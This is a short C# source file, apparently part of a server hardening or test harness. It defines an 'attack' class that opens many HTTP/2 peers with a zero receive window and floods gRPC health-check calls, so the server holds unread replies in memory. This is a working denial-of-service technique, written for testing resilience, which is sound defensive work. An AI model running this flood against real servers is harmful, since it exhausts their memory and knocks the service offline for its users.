using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Frames;

/// <summary>Calls that are answered at once and whose answers have no room: they are over for the server, and hold their memory for as long as the connection stays.</summary>
internal sealed class AnswersNeverTaken : Attack
{
    public override Attacker By => Attacker.Peer;

    public override async Task RunAsync(Target target)
    {
        byte[] question = Requests.Framed([]);
        await Task.WhenAll(Enumerable.Range(0, target.Count(2, 12)).Select(async _ =>
        {
            Peer peer = await target.PeerAsync(receiveWindowBytes: 0);
            for (int i = 0; i < target.Count(600, 3900) && !peer.Gone; i++)
            {
                await peer.SendAsync(await peer.OpenAsync("/grpc.health.v1.Health/Check"), question, endStream: true);
            }
        }));
        await target.HoldAsync();
    }
}
